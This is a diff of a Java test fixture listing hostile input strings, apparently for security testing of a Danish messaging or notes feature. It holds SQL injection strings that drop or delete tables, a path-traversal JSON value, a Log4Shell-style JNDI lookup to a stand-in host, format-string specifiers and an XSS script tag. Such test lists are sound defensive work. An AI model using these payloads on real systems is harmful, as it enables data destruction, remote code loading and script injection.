@@ -45,7 +45,7 @@ final class Ondord {
             "a\u0301".repeat(200),
             "'; drop table proevehandling; --",
             "ny prøvehandling: Robert'); delete from tegn where ('1'='1",
-            "{\"verb\":\"GEM_TEGN\",\"om\":\"../..\"}",
+            "{\"verb\":\"GEM_NOTAT\",\"om\":\"../..\"}",
             "{{DATE(2026-11-23,LONG)}} ${jndi:ldap://ond.example/a} {0} %s %n",
             "<script>alert(1)</script><at>Alle</at>",
             "ny prøvehandling: " + OPMAERKNING + " ![x](y) **fed** # 1. <b>x</b> for børn fra i morgen",
